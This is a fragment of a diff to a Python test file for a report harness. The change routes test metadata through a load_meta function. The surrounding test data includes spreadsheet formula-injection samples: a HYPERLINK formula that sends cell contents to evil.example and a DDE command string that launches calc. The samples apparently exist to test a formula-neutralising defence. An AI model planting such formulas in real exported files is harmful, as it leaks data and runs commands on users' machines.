@@ -15,8 +15,9 @@ from harness.record import new_record
 from harness.reports import write_all
 from harness.reports.json_csv import csv_text, neutralise_formula, results_frame
 from harness.reports.markdown import MAX_CELL_CHARS, human_text, render_markdown
+from harness.session import load_meta
 
-META = {"run_id": "r1", "commit": "abc", "backend": "cpu", "inputs": []}
+META = load_meta({"run_id": "r1", "commit": "abc", "backend": "cpu", "inputs": []})
 HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "plus": "+cmd|' /C calc'!A0",
